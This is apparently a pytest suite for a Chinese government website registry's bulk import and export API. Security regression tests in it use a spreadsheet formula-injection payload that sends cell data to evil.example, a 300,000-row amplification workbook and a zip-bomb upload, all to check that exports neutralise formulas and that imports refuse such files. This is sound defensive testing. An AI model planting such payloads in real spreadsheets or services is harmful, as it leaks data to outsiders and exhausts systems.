"""Bulk import (all rows or none, with a per-row error report) and export of filtered lists."""
import io

from openpyxl import Workbook, load_workbook
from sqlmodel import func, select

from services.registry.accounts.models import Account
from services.registry.sites.models import Site
from tests.registry.helpers import new_unit

SITE_HEADERS = ["网站名称", "首页网址", "网站类型", "网站标识码", "ICP备案号", "公安机关备案号", "党政机关网站标识",
                "主办单位", "主管单位"]


def xlsx(headers: list[str], rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def post(registry, headers, kind: str, data: bytes, name: str, dry_run: bool = False):
    return registry.post(f"/api/v1/imports/{kind}", headers=headers, params={"dry_run": dry_run},
                         files={"file": (name, io.BytesIO(data), "application/octet-stream")})


def count(session, model) -> int:
    return session.exec(select(func.count()).select_from(model)).one()


def test_valid_xlsx_imports_every_row_with_filing_and_audit(registry, login, session):
    units = [new_unit("韩城市")[1] for _ in range(3)]
    rows = [[f"韩城导入网站{i}", f"https://imp{i}.hancheng.gov.cn/", "部门网站", f"IMP00000{i}", f"陕ICP备9{i}号",
             f"陕公网安备9{i}号", "是", unit, "韩城市"] for i, unit in enumerate(units)]
    sup = login("hancheng_supervisor")
    dry = post(registry, sup, "sites", xlsx(SITE_HEADERS, rows), "网站.xlsx", dry_run=True)
    assert dry.status_code == 200 and dry.json() == {"kind": "site", "rows": 3, "created": 0, "dry_run": True}
    before = count(session, Site)
    done = post(registry, sup, "sites", xlsx(SITE_HEADERS, rows), "网站.xlsx")
    assert done.status_code == 200 and done.json()["created"] == 3
    assert count(session, Site) == before + 3
    listed = registry.get("/api/v1/sites", headers=sup, params={"q": "韩城导入网站"}).json()
    assert listed["total"] == 3 and all(s["state"] == "active" for s in listed["items"])
    site_id = listed["items"][0]["id"]
    filings = registry.get("/api/v1/filings", headers=sup, params={"subject_kind": "site", "subject_id": site_id}).json()
    assert [f["kind"] for f in filings["items"]] == ["import"] and filings["items"][0]["state"] == "approved"
    audit = registry.get("/api/v1/audit", headers=sup, params={"entity_kind": "site", "entity_id": site_id}).json()
    assert audit["items"][0]["action"] == "site.import" and audit["items"][0]["after"]["name"].startswith("韩城导入网站")


def test_one_bad_row_imports_nothing_and_reports_each_problem(registry, login, session):
    unit = new_unit("韩城市")[1]
    rows = [
        ["好网站", "https://good.hancheng.gov.cn/", "部门网站", "GOOD000001", "", "", "是", unit, "韩城市"],
        ["坏网址", "ftp://bad", "部门网站", "", "", "", "否", unit, "韩城市"],
        ["未知单位", "https://x.hancheng.gov.cn/", "部门网站", "", "", "", "否", "不存在的局", "韩城市"],
        ["重复标识码", "https://y.hancheng.gov.cn/", "奇怪类型", "6105000001", "", "", "否", unit, "韩城市"],
    ]
    before = count(session, Site)
    response = post(registry, login("hancheng_supervisor"), "sites", xlsx(SITE_HEADERS, rows), "错误.xlsx")
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert detail["code"] == "import_invalid" and detail["rows"] == 4
    by_row = {e["row"]: e for e in detail["errors"]}
    assert set(by_row) == {3, 4, 5}
    assert by_row[3]["column"] == "首页网址" and by_row[4]["column"] == "主办单位" and by_row[5]["column"] == "网站类型"
    assert count(session, Site) == before


def test_csv_in_gbk_imports_accounts_and_duplicates_are_caught(registry, login, session):
    unit = new_unit("临渭区")[1]
    text = f"账号名称,账号类型,账号ID,主办单位,互动地址\n临渭测试号,微信订阅号,gh_lwtest01,{unit},\n临渭测试微博,新浪微博,lwweibo01,{unit},\n"
    sup = login("linwei_supervisor")
    done = post(registry, sup, "accounts", text.encode("gbk"), "账号.csv")
    assert done.status_code == 200 and done.json()["created"] == 2
    again = post(registry, sup, "accounts", text.encode("gbk"), "账号.csv")
    assert again.status_code == 422
    assert {e["column"] for e in again.json()["detail"]["errors"]} == {"账号ID"}


def test_binary_garbage_is_refused(registry, login):
    response = post(registry, login("weinan_supervisor"), "sites", b"\x00\x01\x02MZ" * 100, "x.csv")
    assert response.status_code == 415


def test_export_xlsx_round_trips_through_import(registry, login, session):
    sup = login("hancheng_supervisor")
    exported = registry.get("/api/v1/sites/export", headers=sup, params={"q": "韩城市财政局"})
    assert exported.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(exported.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][:3] == ["网站名称", "首页网址", "网站类型"] and rows[1][0] == "韩城市财政局"
    # Edited into a new unit's site and imported back.
    unit = new_unit("韩城市")[1]
    header = rows[0]
    row = dict(zip(header, rows[1]))
    row.update({"网站名称": "往返网站", "首页网址": "https://rt.hancheng.gov.cn/", "网站标识码": "RT00000001",
                "主办单位": unit})
    response = post(registry, sup, "sites", xlsx(header, [[row[h] for h in header]]), "往返.xlsx")
    assert response.status_code == 200, response.text


def test_list_filters_search_sort_and_paginate(registry, login):
    sup = login("weinan_supervisor")
    page = registry.get("/api/v1/sites", headers=sup, params={"kind": "portal", "limit": 5, "sort": "-name"}).json()
    assert page["total"] == 12 and len(page["items"]) == 5  # city portal + 11 county portals
    names = [s["name"] for s in page["items"]]
    assert names == sorted(names, reverse=True)
    second = registry.get("/api/v1/sites", headers=sup, params={"kind": "portal", "limit": 5, "offset": 5,
                                                                "sort": "-name"}).json()
    assert not {s["id"] for s in second["items"]} & {s["id"] for s in page["items"]}
    by_code = registry.get("/api/v1/sites", headers=sup, params={"q": "6105000002"}).json()
    assert by_code["total"] == 1
    by_url = registry.get("/api/v1/sites", headers=sup, params={"q": "127.0.1.2:"}).json()
    assert by_url["total"] >= 1
    county = registry.get("/api/v1/accounts", headers=sup, params={
        "org_id": registry.get("/api/v1/orgs", headers=sup, params={"q": "华阴市"}).json()["items"][0]["id"],
        "platform": "wechat_subscription"}).json()
    assert county["total"] >= 3 and all(a["platform"] == "wechat_subscription" for a in county["items"])
    bad_sort = registry.get("/api/v1/sites", headers=sup, params={"sort": "password"})
    assert bad_sort.status_code == 422 and bad_sort.json()["detail"]["code"] == "invalid_sort"
    session_total = registry.get("/api/v1/accounts", headers=sup).json()["total"]
    assert session_total >= 97
    assert isinstance(Account, type)


# --- issue 12: formula injection, import amplification, header-only files -------------------------------

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_exports_write_a_formula_name_as_text_in_xlsx_and_csv(registry, login):
    from tests.registry.helpers import org_id, site_payload

    sup = login("hancheng_supervisor")
    host = new_unit("韩城市")[0]
    created = registry.post("/api/v1/sites", headers=sup, json=site_payload(host, org_id("韩城市"), name=LINK,
                                                                           override_reason="公式测试"))
    assert created.status_code == 201, created.text
    xlsx_export = registry.get("/api/v1/sites/export", headers=sup, params={"q": "HYPERLINK", "format": "xlsx"})
    assert xlsx_export.status_code == 200
    assert xlsx_export.headers["x-content-type-options"] == "nosniff"
    assert xlsx_export.headers["content-disposition"].startswith("attachment; ")
    sheet = load_workbook(io.BytesIO(xlsx_export.content)).active
    cell = sheet["A2"]
    assert cell.value == LINK and cell.data_type == "s" and cell.quotePrefix  # shown as the text, not run
    csv_export = registry.get("/api/v1/sites/export", headers=sup, params={"q": "HYPERLINK", "format": "csv"})
    assert csv_export.headers["x-content-type-options"] == "nosniff"
    import csv
    rows = list(csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + LINK
    # The CSV export, edited and imported again, gives the name back without the apostrophe.
    header = rows[0]
    row = dict(zip(header, rows[1]))
    row.update({"首页网址": "https://formula-rt.hancheng.gov.cn/", "网站标识码": "", "主办单位": new_unit("韩城市")[1]})
    out = io.StringIO()
    csv.writer(out).writerows([header, [row[h] for h in header]])
    imported = post(registry, sup, "sites", out.getvalue().encode("utf-8"), "往返.csv")
    assert imported.status_code == 200, imported.text
    back = registry.get("/api/v1/sites", headers=sup, params={"q": "formula-rt.hancheng"}).json()["items"]
    assert [s["name"] for s in back] == [LINK]


def raw_xlsx(rows: int) -> bytes:
    """A workbook of `rows` data rows written as XML (as any generator may, without a <dimension>):
    ~3 MB for 300,000 rows, far under the upload limit."""
    import zipfile

    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
        '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {ns} xmlns:r="{rel}"><sheets><sheet name="Sheet1" '
        'sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>',
    }
    cells = "".join(f'<c r="{c}{{r}}" t="inlineStr"><is><t>{v}</t></is></c>'
                    for c, v in (("A", "某某网站"), ("B", "https://a.gov.cn/"), ("C", "某单位")))
    head = "".join(f'<c r="{c}1" t="inlineStr"><is><t>{v}</t></is></c>'
                   for c, v in (("A", "网站名称"), ("B", "首页网址"), ("C", "主办单位")))
    body = "".join(f'<row r="{r}">' + cells.replace("{r}", str(r)) + "</row>" for r in range(2, rows + 2))
    parts["xl/worksheets/sheet1.xml"] = (f'<?xml version="1.0"?><worksheet {ns}><sheetData><row r="1">{head}</row>'
                                         f"{body}</sheetData></worksheet>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def test_a_300k_row_xlsx_is_refused_for_the_row_limit_quickly(registry, login, session):
    import time

    data = raw_xlsx(300_000)
    assert len(data) < 5 * 1024 * 1024
    before = count(session, Site)
    started = time.process_time()
    response = post(registry, login("weinan_supervisor"), "sites", data, "30万行.xlsx", dry_run=True)
    elapsed = time.process_time() - started
    assert response.status_code == 422 and response.json()["detail"]["code"] == "import_too_many_rows"
    assert "10000" in response.json()["detail"]["message"]
    assert elapsed < 3.0, f"{elapsed:.2f} s of CPU"  # was 17 s before any header was looked at
    assert count(session, Site) == before


def test_the_row_limit_is_configurable_and_a_small_file_still_imports(registry, login, monkeypatch):
    from services.common.settings import get_settings

    monkeypatch.setattr(get_settings(), "import_max_rows", 2)
    sup = login("hancheng_supervisor")
    unit = new_unit("韩城市")[1]
    rows = [[f"限额网站{i}", f"https://limit{i}.hancheng.gov.cn/", "部门网站", "", "", "", "否", unit, "韩城市"]
            for i in range(3)]
    refused = post(registry, sup, "sites", xlsx(SITE_HEADERS, rows), "三行.xlsx", dry_run=True)
    assert refused.status_code == 422 and refused.json()["detail"]["code"] == "import_too_many_rows"
    csv_text = "\n".join(",".join(r) for r in [SITE_HEADERS, *rows]).encode()
    assert post(registry, sup, "sites", csv_text, "三行.csv", dry_run=True).json()["detail"]["code"] == \
        "import_too_many_rows"
    ok = post(registry, sup, "sites", xlsx(SITE_HEADERS, rows[:1]), "一行.xlsx", dry_run=True)
    assert ok.status_code == 200 and ok.json()["rows"] == 1


def test_a_wrong_header_is_reported_before_the_rows(registry, login):
    response = post(registry, login("weinan_supervisor"), "sites", xlsx(["名称", "网址"], [["a", "b"]] * 50), "x.xlsx")
    assert response.status_code == 422 and response.json()["detail"]["code"] == "import_headers"
    assert set(response.json()["detail"]["missing"]) == {"网站名称", "首页网址", "主办单位"}


def test_a_header_only_csv_or_xlsx_is_a_clear_422(registry, login):
    sup = login("weinan_supervisor")
    for data, name in ((",".join(SITE_HEADERS).encode("utf-8-sig") + b"\r\n", "只有表头.csv"),
                       (xlsx(SITE_HEADERS, []), "只有表头.xlsx")):
        response = post(registry, sup, "sites", data, name)
        assert response.status_code == 422, response.text
        assert response.json()["detail"]["code"] == "import_no_rows"
        assert response.json()["detail"]["message"].startswith("文件中没有数据行")
    accounts = post(registry, sup, "accounts", "账号名称,账号类型,账号ID,主办单位\n".encode(), "账号.csv")
    assert accounts.status_code == 422 and accounts.json()["detail"]["code"] == "import_no_rows"


def test_an_xlsx_zip_bomb_is_refused_before_openpyxl(registry, login):
    from tests.common.builders import office_bomb

    response = post(registry, login("weinan_supervisor"), "sites", office_bomb(200, "xl/workbook.xml"), "炸弹.xlsx")
    assert response.status_code == 422 and response.json()["detail"]["code"] in ("file_zip_bomb",
                                                                                  "file_unpacked_too_large")
